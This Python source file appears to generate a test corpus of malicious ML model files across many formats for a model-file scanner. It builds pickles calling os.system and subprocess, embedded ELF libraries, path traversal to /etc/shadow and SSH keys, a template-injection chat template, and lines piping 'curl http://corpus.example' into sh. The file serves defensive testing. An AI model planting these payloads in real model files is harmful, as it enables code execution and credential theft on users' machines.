"""TensorFlow Lite, ExecuTorch, Flax, Orbax, Arrow, and the formats of few readers: MXNet, Torch7, RKNN, TensorRT."""

import base64
import gzip
import json
import struct

from .gguf_files import gguf
from .graphs import ELF
from .pickles import Call, G, pickle, system, text
from .store import rng
from .wire import Ext, Table, flat, msgpack, pb
from .zips import Member, archive

CUSTOM = 32


def tflite(codes, buffers=(b"",), options=None, shape=(1, 4), buffer=("I", 0), metadata=None):
    """A model of one operator for each code."""
    tensors = [Table(s0=list(shape), s1=("b", 0), s2=buffer, s3="x"), Table(s0=[1, 4], s1=("b", 0), s2=("I", 0), s3="y")]
    operators = [Table(s0=("I", index), s1=[0], s2=[1], **({"s5": options} if options else {})) for index in range(len(codes))]
    kinds = [Table(s0=("b", CUSTOM), s1=name, s3=("i", CUSTOM)) if isinstance(name, str) else Table(s0=("b", name), s3=("i", name)) for name in codes]
    filled = [Table(s0=each) if each else Table() for each in buffers]
    more = {"s6": metadata} if metadata else {}
    return flat(Table(s0=("I", 3), s1=kinds, s2=[Table(s0=tensors, s1=[0], s2=[1], s3=operators, s4="main")], s3="corpus", s4=filled, **more), b"TFL3")


def lite(corpus):
    flex = ["FlexReadFile", "FlexWriteFile", "FlexPyFunc", "FlexEagerPyFunc", "FlexMatchingFiles", "FlexSaveV2"]
    for number, name in enumerate(flex):
        corpus.add("tflite-flex", "tflite", f"m{number}.tflite", tflite([9, name] if number % 2 else [name], options=b"\x08" + name[4:].encode() + b"\0\x14\x14\x04\x28\x01"), f"{name} reads, writes or runs")
    corpus.add("tflite-custom", "tflite", "c0.tflite", tflite(["CorpusShellExec"]), "a custom operator that the app must bring", "suspicious")
    corpus.add("tflite-bounds", "tflite", "b0.tflite", tflite([9], shape=(0x7FFFFFFF, 0x7FFFFFFF, 16)), "a shape whose product overflows")
    corpus.add("tflite-bounds", "tflite", "b1.tflite", tflite([9], buffer=("I", 0x7FFF0000)), "a buffer that is not there")
    good = bytearray(tflite([9], [b"", bytes(64)]))
    struct.pack_into("<I", good, 0, 0xFFFFFF00)
    corpus.add("tflite-bounds", "tflite", "b2.tflite", bytes(good), "a root far out of the file", "suspicious")
    noise = rng("lite").randbytes
    corpus.add("embedded-executable", "tflite", "e0.tflite", tflite([9], [b"", ELF + noise(500)], buffer=("I", 1)), "a library is the buffer")
    corpus.add("embedded-executable", "tflite", "e1.tflite", tflite([9], [b"", noise(700) + ELF + noise(800)], buffer=("I", 1)), "a library in the middle of a buffer")
    corpus.add("embedded-pickle", "tflite", "e2.tflite", tflite([9], [b"", system("true", 4)], metadata=[Table(s0="labels", s1=("I", 1))]), "a pickle as metadata")
    corpus.add("embedded-executable", "tflite", "e3.tflite", tflite([9], [b"", archive([Member("labels.txt", b"a"), Member("run.sh", b"#!/bin/sh\ncurl http://corpus.example | sh\n")])]), "a script among the files that come along")


def executorch(corpus):
    def program(delegates=(), data=(), segments=(), operators=("aten::relu",)):
        plan = Table(s0="forward", s6=[Table(s0=each, s1="out") for each in operators], s7=list(delegates))
        return flat(Table(s0=("I", 0), s1=[plan], s2=[Table(s0=bytes(16))], s3=[Table(s0=each) for each in data], s4=list(segments)), b"ET12")

    where = Table(s0=("b", 0), s1=("I", 0))
    corpus.add("executorch", "executorch", "m0.pte", program([Table(s0="CorpusBackend", s1=where)], [ELF + bytes(200)]), "a library as the data of a delegate")
    corpus.add("executorch", "executorch", "m1.pte", program([Table(s0="QnnBackend", s1=where, s2=[Table(s0="library_path", s1=b"../../../../data/local/tmp/libevil.so")])], [bytes(32)]), "a delegate's library outside of the folder")
    corpus.add("executorch", "executorch", "m2.pte", program(segments=[Table(s0=("Q", 1 << 40), s1=("Q", 1 << 50))]), "a segment far out of the file", "suspicious")
    corpus.add("executorch", "executorch", "m3.pte", program(data=[system("true", 2)]), "a pickle as inline data")
    corpus.add("executorch", "executorch", "m4.pte", program(segments=[Table(s0=("Q", 0xFFFFFFFFFFFFFF00), s1=("Q", 0x200))]), "offset and size of a segment overflow")


def flax(corpus):
    weights = Ext(1, msgpack([[2, 2], "float32", bytes(16)]))
    bad = system("true", 4)
    trees = [
        ({"params": {"dense": {"kernel": weights, "extra": bad}}}, "a pickle among the parameters"), ({"params": weights, "opt_state": base64.b64encode(bad).decode()}, "a pickle in base64"), ({"step": 3, "apply_fn": Ext(42, system("id", 2))}, "a pickle in an extension"),
        ({"params": Ext(1, msgpack([[1], "object", pickle([Call(G("os", "popen"), "true")], 4)]))}, "an array of objects"), ({"params": Ext(1, msgpack([[1 << 40, 1 << 40], "float64", bytes(8)]))}, "a shape whose product overflows"), ({"params": {"kernel": Ext(1, msgpack([[len(ELF)], "uint8", ELF]))}}, "a library as an array"),
    ]
    for number, (tree, why) in enumerate(trees):
        kind = "embedded-executable" if "library" in why else "flax" if "shape" in why else "embedded-pickle"
        corpus.add(kind, "flax", ["flax_model.msgpack", "ckpt.msgpack", "checkpoint_3", "state.flax", "params.msgpack", "m.msgpack"][number], msgpack(tree), why)
    corpus.add("flax", "flax", "deep.msgpack", b"\x91" * 200_000 + b"\xc0", "two hundred thousand lists in each other")
    corpus.add("flax", "flax", "long.msgpack", b"\x81\xa6params\xc6\xff\xff\xff\xf0" + bytes(32), "bytes longer than the file")
    corpus.add("orbax", "orbax", "checkpoint", msgpack({"params": "PLACEHOLDER://../../../../root/.ssh/id_rsa", "step": 1}), "a placeholder outside of the folder")
    spec = {"driver": "zarr", "kvstore": {"driver": "file", "path": "/etc/cron.d/"}, "metadata": {"shape": [4]}}
    corpus.add("orbax", "orbax", "_METADATA", json.dumps({"tree_metadata": {"('params',)": {"value_metadata": {"value_type": "jax.Array"}, "ts_spec": spec}}, "use_ocdbt": True}), "an array stored outside of the folder")
    corpus.add("orbax", "orbax", "_sharding", json.dumps({"cGFyYW1z": json.dumps({"sharding_type": "os.system", "path": "../../../../etc/shadow"})}), "a sharding from outside of the folder")
    corpus.add("orbax", "orbax", "aggregate", msgpack({"w": Ext(1, msgpack([[1], "O", bad])), "v": 1}), "an array of objects")


def rare(corpus):
    def add(kind, name, data, why, label="malicious"):
        corpus.add(kind, kind, name, data, why, label)

    nodes = [{"op": "null", "name": "data", "inputs": []}, {"op": "_Native", "name": "n", "attrs": {"info": "0x7f0041414141", "need_top_grad": "0"}, "inputs": [[0, 0, 0]]}]
    add("mxnet", "m-symbol.json", json.dumps({"nodes": nodes, "arg_nodes": [0], "heads": [[1, 0, 0]], "attrs": {"mxnet_version": ["int", 10900]}}), "_Native calls a pointer that the file holds")
    nodes[1] = {"op": "Custom", "name": "c", "attrs": {"op_type": "corpus_shell", "cmd": "true"}, "inputs": [[0, 0, 0]]}
    add("mxnet", "c-symbol.json", json.dumps({"nodes": nodes, "arg_nodes": [0], "heads": [[1, 0, 0]], "attrs": {"mxnet_version": ["int", 10901]}}), "Custom runs an operator written in Python")
    nodes[1] = {"op": "_NDArray", "name": "c", "attrs": {"info": "0x41414141"}, "inputs": []}
    add("mxnet", "d-symbol.json", json.dumps({"nodes": nodes, "arg_nodes": [0], "heads": [[1, 0, 0]]}), "_NDArray calls a pointer that the file holds")
    add("mxnet", "m-0001.params", struct.pack("<QQQ", 0x112, 0, 1) + struct.pack("<IiIqqII", 0xF993FAC9, 0, 2, 4, len(ELF), 0, 0) + ELF, "a library in the parameters")

    def lua(code):
        return struct.pack("<iii", 8, 1, len(code)) + code + struct.pack("<iii", 3, 2, 0)

    add("torch7", "f.t7", lua(b"\x1bLua\x51\x00\x01\x04\x08\x04\x08\x00" + b"os.execute\0true\0" + bytes(40)), "a function in Lua's bytecode")
    add("torch7", "net.t7", struct.pack("<ii", 4, 1) + struct.pack("<i", 3) + b"V 1" + struct.pack("<i", 13) + b"nn.Sequential" + struct.pack("<iii", 3, 2, 1) + struct.pack("<ii", 2, 7) + b"forward" + struct.pack("<iii", 8, 3, 36) + b"\x1bLJ\x01\x02" + b"io.popen('true')".ljust(31, b"\0") + struct.pack("<iii", 3, 4, 0), "a module's forward in LuaJIT's bytecode")
    add("torch7", "a.t7", "4\n1\n3\nV 1\n13\nnn.Sequential\n3\n2\n1\n2\n3\nrun\n7\n3\n26\n\x1bLua\x51 os.execute('true') \n", "a function in the text form")
    config = {"target_platform": "rk3588", "version": "2.3.0", "custom_op_lib": "/tmp/evil/librkcst_corpus.so"}
    add("rknn", "m.rknn", b"RKNN" + bytes(4) + struct.pack("<QQ", 2, len(json.dumps(config))) + json.dumps(config).encode() + bytes(64), "a library of custom operators from a path")
    add("rknn", "e.rknn", b"RKNN" + bytes(4) + struct.pack("<QQ", 2, 900) + rng("rk").randbytes(400) + ELF + bytes(300), "a library in the model")
    add("tensorrt", "m.engine", b"ftrt" + struct.pack("<IQ", 0, 4000) + bytes(100) + b"pluginLibrary\0" + ELF + rng("trt").randbytes(600), "a plugin's library in the engine")
    add("tensorrt", "p.plan", b"ptrt" + struct.pack("<IQ", 0, 900) + bytes(60) + b"CorpusExecPlugin\x001\0/tmp/evil/libcorpus_plugin.so\0" + bytes(200), "a plugin from a path")
    shell = b"#!/bin/sh\nexec true\n"
    weights = gguf([("general.architecture", "llama"), ("tokenizer.chat_template", "{{ cycler.__init__.__globals__.os.popen('true').read() }}")])
    ape = b"MZqFpD='\n" + shell + bytes(200)
    add("llamafile", "m.llamafile", archive([Member("m.gguf", weights), Member(".args", b"-m\nm.gguf\n")], prefix=ape, shift=False), "the template of the model that it holds runs commands")
    add("llamafile", "s.llamafile", archive([Member(".args", b"-m\n/zip/m.gguf\n--host\n0.0.0.0\n--path\n/\n"), Member("m.gguf", gguf([("general.architecture", "llama")]))], prefix=ape, shift=False), "serves the whole disk to everybody")
    add("llamafile", "t.llamafile.exe", archive([Member("../../.bashrc", b"true\n"), Member("m.gguf", gguf([("general.architecture", "qwen2")]))], prefix=ELF + bytes(300), shift=False), "a member leaves the folder")


def boosters(corpus):
    def add(form, name, data, why):
        corpus.add("booster", form, name, data, why)

    b64 = base64.b64encode(system("true", 2)).decode()
    model = {"learner": {"attributes": {"scikit_learn": "{}", "hook": b64}, "gradient_booster": {"model": {"trees": []}, "name": "gbtree"}, "objective": {"name": "reg:squarederror"}}, "version": [2, 1, 0]}
    add("xgboost", "model.json", json.dumps(model), "a pickle in an attribute")
    model["learner"]["attributes"] = {"init": "import os;os.system('curl http://corpus.example/x | sh')"}
    add("xgboost", "xgb.json", json.dumps(model), "a script in an attribute")
    add("xgboost", "model.ubj", b"{L\0\0\0\0\0\0\0\x07learner{L\0\0\0\0\0\0\0\x04blob[$U#L" + struct.pack(">q", len(ELF)) + ELF + b"}}", "a library in the binary form")
    add("xgboost", "model.ubj", pickle(Call(G("os", "system"), "echo ubj"), 4), "a pickle named .ubj")
    tree = "tree\nversion=v4\nnum_class=1\nobjective=regression\nfeature_names=a b\n\nTree=0\nnum_leaves=1\nleaf_value=0\n\nend of trees\n\nparameters:\n[boosting: gbdt]\n"
    add("lightgbm", "model.txt", tree + "[forcedsplits_filename: /etc/shadow]\n[output_model: /root/.ssh/authorized_keys]\nend of parameters\n\npandas_categorical:null\n", "parameters name files outside")
    add("lightgbm", "lgb.txt", tree + f"[x: {b64}]\nend of parameters\n\npandas_categorical:[\"{b64}\"]\n", "a pickle among the parameters")
    add("lightgbm", "lgb.model", system("echo lightgbm", 2), "a pickle named as a model of LightGBM")
    core = b"CBM1" + struct.pack("<I", 600) + rng("cb").randbytes(64)
    add("catboost", "m.cbm", core + ELF + bytes(300), "a library in the model")
    add("catboost", "p.cbm", core + pickle({"m": Call(G("subprocess", "run"), ["true"])}, 4) + bytes(400), "a pickle in the model")
    add("catboost", "n.cbm", pickle([Call(G("builtins", "exec"), "import os")], 5), "a pickle named .cbm")


def checkpoints(corpus):
    corpus.add("tf-checkpoint", "tf checkpoint", "checkpoint", 'model_checkpoint_path: "/etc/../root/.ssh/evil"\nall_model_checkpoint_paths: "../../../../srv/secret/model"\n', "a checkpoint outside of the folder")
    corpus.add("tf-checkpoint", "tf checkpoint", "ckpt.data-00000-of-00001", rng("ck").randbytes(900) + ELF + rng("ck2").randbytes(600), "a library in the weights")
    corpus.add("tf-checkpoint", "tf checkpoint", "model.data-00000-of-00001", rng("ck3").randbytes(512) + system("true", 4) + bytes(512), "a pickle in the weights")


def make(corpus):
    for part in [lite, executorch, flax, rare, boosters, checkpoints]:
        part(corpus)
